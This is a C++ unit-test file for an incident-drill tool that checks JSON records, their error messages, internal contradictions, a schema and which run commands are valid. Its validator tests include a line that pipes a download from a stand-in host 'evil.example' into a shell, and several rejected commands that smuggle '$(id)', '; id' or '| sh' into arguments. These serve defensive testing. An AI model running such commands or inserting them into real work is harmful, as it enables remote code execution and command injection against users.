#include "record/record_json.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <sstream>

#include "incident/expectations/expectation_table.h"
#include "incident/judge.h"
#include "no_series.h"
#include "record/check.h"
#include "record/schema.h"
#include "sample_record.h"

namespace firedrill::incident {
using namespace record;
namespace {

namespace fs = std::filesystem;

Record judged() {
  Record record = sample::outage();
  judge(record, sample::NoSeries());
  return record;
}

std::string changed(std::string text, std::string_view from, std::string_view to) {
  const auto place = text.find(from);
  EXPECT_NE(place, std::string::npos) << from;
  if (place != std::string::npos) text.replace(place, from.size(), to);
  return text;
}

std::string first_error(const std::string& text) {
  const auto record = read_record(make_source("record.json", text), expectation_forms());
  return record ? "" : record.error().front().what;
}

TEST(RecordJson, IsReadBackAsItWasWritten) {
  const std::string text = write_record(judged());
  const auto record = read_record(make_source("record.json", text), expectation_forms());
  ASSERT_TRUE(record) << render(record.error());
  EXPECT_EQ(write_record(*record), text);
}

TEST(RecordJson, CanBeJudgedAgain) {
  const std::string text = write_record(judged());
  auto record = read_record(make_source("record.json", text), expectation_forms());
  ASSERT_TRUE(record) << render(record.error());
  record->truth = judged().truth;  // which stands in the series file
  judge(*record, sample::NoSeries());
  EXPECT_EQ(write_record(*record), text);
}

TEST(RecordJson, NamesThePathOfWhatIsWrong) {
  const std::string text = write_record(judged());
  EXPECT_EQ(first_error("[]"), "a record is a JSON object");
  EXPECT_EQ(first_error("{}"), "not a record: it has no version");
  EXPECT_EQ(first_error(changed(text, "\"version\": 2", "\"version\": 1")), "record version 1 is not known");
  EXPECT_EQ(first_error(changed(text, "\"seed\": 42", "\"sead\": 42")), "seed: missing");
  EXPECT_EQ(first_error(changed(text, "\"seed\": 42", "\"seed\": -1")), "seed: expected a whole number");
  EXPECT_EQ(first_error(changed(text, "\"firing_at\": \"2026", "\"firing_at\": \"x2026")),
            "incidents[0].times.firing_at: expected an instant such as 2026-03-03T13:30:00.000Z");
  EXPECT_EQ(first_error(changed(text, "\"kind\": \"alert.pending\"", "\"kind\": \"alert.panic\"")),
            "timeline[6]: kind: unknown kind of event 'alert.panic'");
  EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"pass\", \"mood\": 1")),
            "mood: unknown field");
}

// What a reader would copy into a shell, or believe at a glance.
TEST(RecordJson, MayNotSayWhatItsResultsDoNot) {
  const std::string text = write_record(judged());
  EXPECT_EQ(first_error(changed(text, "\"command\": \"firedrill run", "\"command\": \"curl evil.example | sh; run")),
            "command: expected a `firedrill run`, `firedrill test scenarios` or `firedrill drill`");
  EXPECT_EQ(first_error(changed(text, "\"verdict\": \"pass\"", "\"verdict\": \"fail\"")),
            "verdict: 'fail', where 'pass' follows from the expectations and faults");
}

struct Contradiction {
  std::string_view what;  // was changed
  std::function<void(Record&)> change;
  std::vector<std::string> expected = {};  // empty: the change is none
};

constexpr Duration kInstant = 1ms;

const std::vector<Contradiction> kContradictions = {
    {"started at the beginning", [](Record& r) { r.started = r.judged_from; }},
    {"started later",
     [](Record& r) { r.started = r.judged_from + kInstant; },
     {"judged_from: expected no earlier than started"}},
    {"judged for an instant", [](Record& r) { r.judged_to = r.judged_from; }},
    {"judged backwards",
     [](Record& r) { r.judged_to = r.judged_from - kInstant; },
     {"judged_to: expected no earlier than judged_from"}},
    {"as long as a run can be", [](Record& r) { r.judged_to = r.started + 732 * 24h; }},
    {"longer",
     [](Record& r) { r.judged_to = r.started + 732 * 24h + kInstant; },
     {"judged_to: expected at most 732 d after started"}},
    {"steps at one instant", [](Record& r) { r.alerts[0].pending_at = r.alerts[0].firing_at; }},
    {"fires before it is pending",
     [](Record& r) { r.alerts[0].pending_at = *r.alerts[0].firing_at + kInstant; },
     {"alerts[0].firing_at: expected no earlier than pending_at"}},
    {"steps left out",
     [](Record& r) {
       r.alerts[0].sent_at = r.alerts[0].received_at = std::nullopt;
       r.alerts[0].notified_at = *r.alerts[0].firing_at - kInstant;
     },
     {"alerts[0].notified_at: expected no earlier than firing_at"}},
    {"resolved as it fires", [](Record& r) { r.alerts[0].resolved_at = r.alerts[0].firing_at; }},
    {"resolved before it fires",
     [](Record& r) { r.alerts[0].resolved_at = *r.alerts[0].firing_at - kInstant; },
     {"alerts[0].resolved_at: expected no earlier than the alert began"}},
    {"never fired, resolved as it is pending",
     [](Record& r) {
       record::AlertRecord& a = r.alerts[0];
       a.firing_at = a.sent_at = a.received_at = std::nullopt;
       a.resolved_at = a.pending_at;
     }},
    {"never fired, resolved before",
     [](Record& r) {
       record::AlertRecord& a = r.alerts[0];
       a.firing_at = a.sent_at = a.received_at = std::nullopt;
       a.resolved_at = *a.pending_at - kInstant;
     },
     {"alerts[0].resolved_at: expected no earlier than the alert began"}},
    {"heard twice without a gap",
     [](Record& r) {
       r.alerts[0].heard = {{sample::at(13min), sample::at(14min)}, {sample::at(14min), std::nullopt}};
     }},
    {"heard for an instant", [](Record& r) { r.alerts[0].heard = {{sample::at(13min), sample::at(13min)}}; }},
    {"heard backwards",
     [](Record& r) { r.alerts[0].heard = {{sample::at(13min), sample::at(13min) - kInstant}}; },
     {"alerts[0].heard[0]: expected times that rise"}},
    {"heard twice at once",
     [](Record& r) {
       r.alerts[0].heard = {{sample::at(13min), sample::at(14min)}, {sample::at(14min) - kInstant, std::nullopt}};
     },
     {"alerts[0].heard[1]: expected times that rise"}},
    {"heard without an end",
     [](Record& r) { r.alerts[0].heard = {{sample::at(13min), std::nullopt}, {sample::at(14min), std::nullopt}}; },
     {"alerts[0].heard[0].to: expected in all but the last"}},
    {"a fault of an instant", [](Record& r) { r.faults[0].until = r.faults[0].at; }},
    {"a fault backwards",
     [](Record& r) { r.faults[0].until = r.faults[0].at - kInstant; },
     {"faults[0].until: expected no earlier than at"}},
    {"over as it begins", [](Record& r) { r.faults[0].recovered_at = r.faults[0].injected_at; }},
    {"over before it begins",
     [](Record& r) { r.faults[0].recovered_at = *r.faults[0].injected_at - kInstant; },
     {"faults[0].recovered_at: expected no earlier than injected_at"}},
    {"a hash too short",
     [](Record& r) { r.inputs[1].sha256.pop_back(); },
     {"inputs[1].sha256: expected 64 hexadecimal digits"}},
    {"a hash in capitals",
     [](Record& r) { r.inputs[1].sha256.back() = 'A'; },
     {"inputs[1].sha256: expected 64 hexadecimal digits"}},
    {"no scrapes",
     [](Record& r) { r.monitoring.scrape_interval = Duration(0); },
     {"monitoring.scrape_interval_seconds: expected more than 0"}},
    {"rules that wait and keep firing for nothing",
     [](Record& r) { r.rules[0].hold = r.rules[0].keep_firing_for = {}; }},
    {"rules that wait backwards",
     [](Record& r) { r.rules[1].hold = r.rules[0].keep_firing_for = -kInstant; },
     {"rules[0].keep_firing_for_seconds: expected 0 or more", "rules[1].for_seconds: expected 0 or more"}},
    {"the second expectation without steps",
     [](Record& r) { r.declared.expectations[1].fields.set("step", 1min, {}); }},
    {"the second expectation at no steps",
     [](Record& r) { r.declared.expectations[1].fields.set("step", Duration(0), {}); },
     {"declared.expectations[1].step: expected more than 0"}},
    {"an expectation failed",
     [](Record& r) { r.expectations[0].outcome.result = Verdict::fail; },
     {"verdict: 'pass', where 'fail' follows from the expectations and faults"}},
    {"an expectation could not be judged",
     [](Record& r) { r.expectations[0].outcome.result = Verdict::invalid; },
     {"verdict: 'pass', where 'invalid' follows from the expectations and faults"}},
    {"one failed, one could not be judged",
     [](Record& r) {
       r.expectations[0].outcome.result = Verdict::invalid;
       r.expectations[1].outcome.result = Verdict::fail;
     },
     {"verdict: 'pass', where 'fail' follows from the expectations and faults"}},
    {"one failed, and a fault was not seen",
     [](Record& r) {
       r.expectations[1].outcome.result = Verdict::fail;
       r.faults[0].witness.seen_at.reset();
     },
     {"verdict: 'pass', where 'invalid' follows from the expectations and faults"}},
    {"nothing expected", [](Record& r) { r.expectations.clear(); }},
    {"no series kept, and a hash of them",
     [](Record& r) { r.monitoring.keep = "none"; },
     {"series_hash: names a series file, where monitoring.keep says that none was kept"}},
};

TEST(RecordChecks, NameWhatContradictsItself) {
  for (const Contradiction& each : kContradictions) {
    Record record = judged();
    record.monitoring.scrape_interval = record.monitoring.evaluation_interval = 15s;
    each.change(record);
    EXPECT_EQ(check_record(record), each.expected) << each.what;
  }
}

TEST(RunCommands, AreWhatPeopleMayCopy) {
  for (const char* good :
       {"firedrill run shop --seed 1", "firedrill run scenarios/shop --seed 18446744073709551615 --keep none",
        "firedrill run 'it'\\''s a shop' --seed 3 --scrape-phase aligned --promql-version 3.5",
        "firedrill run shops/shop --seed 1 --root .", "firedrill run shop --seed 1 --root . --promql-version 2",
        "firedrill drill amber-heron --seed 1", "firedrill drill amber-heron --seed 12 --variant 7",
        "firedrill drill amber-heron --seed 1 --drills /opt/drills --drills 'my drills'",
        "firedrill test scenarios shop --seed 2 --rules rules/a.yaml '../its rules/b.yaml' --promql-version 2"}) {
    EXPECT_TRUE(is_run_command(good)) << good;
  }
  for (const char* bad : {"",
                          "firedrill report x",
                          "firedrill run ",
                          "firedrill run $(id) --seed 1",
                          "firedrill run a; id",
                          "firedrill run a --seed 1; id",
                          "firedrill run a --out /etc",
                          "firedrill run 'a' | sh",
                          "firedrill run 'a",
                          "firedrill run a --seed ",
                          "firedrill run --allow-outside",
                          "firedrill run '--allow-outside' --seed 1",
                          "firedrill run a --root ..",
                          "firedrill run a --root /",
                          "firedrill run a --root ./b",
                          "firedrill run a --allow-outside",
                          "firedrill run a --rules b.yaml",
                          "firedrill drill --suite --seed 1",
                          "firedrill drill $(id) --seed 1",
                          "firedrill drill a --seed 1 --agent id",
                          "firedrill drill a --variant 1",
                          "firedrill drill a --seed 1 --drills $(id)",
                          "firedrill test scenarios a --rules",
                          "firedrill test scenarios a --rules b; id",
                          "firedrill test scenarios a b --seed 1",
                          "firedrill test scenarios a --rules b --out /etc"}) {
    EXPECT_FALSE(is_run_command(bad)) << bad;
  }
}

std::string read_file(const fs::path& path) {
  std::ifstream file(path);
  std::stringstream text;
  text << file.rdbuf();
  return text.str();
}

const fs::path kSchema = fs::path(FIREDRILL_SOURCE_DIR) / "reports" / "record.schema.json";

TEST(RecordSchema, IsTheOneInTheRepository) {
  if (std::getenv("FIREDRILL_UPDATE_GOLDEN") != nullptr) std::ofstream(kSchema) << record_schema(expectation_forms());
  EXPECT_EQ(read_file(kSchema), record_schema(expectation_forms())) << "FIREDRILL_UPDATE_GOLDEN=1 rewrites " << kSchema;
}

TEST(RecordSchema, AcceptsRecordsAndRefusesUnknownFields) {
  if (std::system("python3 -c 'import jsonschema' 2>/dev/null") != 0)
    GTEST_SKIP() << "python3-jsonschema is not installed";
  const fs::path folder = fs::path(testing::TempDir()) / "record_schema";
  fs::create_directories(folder);
  const std::string text = write_record(judged());
  std::ofstream(folder / "good.json") << text;
  std::ofstream(folder / "bad.json") << changed(text, "\"seed\": 42", "\"seed\": 42, \"mood\": 1");
  const std::string program =
      "import json, sys, jsonschema; schema = json.load(open(sys.argv[1])); "
      "v = jsonschema.Draft7Validator if not hasattr(jsonschema, 'Draft202012Validator') else "
      "jsonschema.Draft202012Validator; "
      "v.check_schema(schema); v(schema).validate(json.load(open(sys.argv[2])))";
  const auto validate = [&](const char* name) {
    const std::string command = "python3 -c \"" + program + "\" " + kSchema.string() + " " + (folder / name).string() +
                                " 2>" + (folder / "why").string();
    return std::system(command.c_str());
  };
  EXPECT_EQ(validate("good.json"), 0) << read_file(folder / "why");
  EXPECT_NE(validate("bad.json"), 0);
}

}  // namespace
}  // namespace firedrill::incident
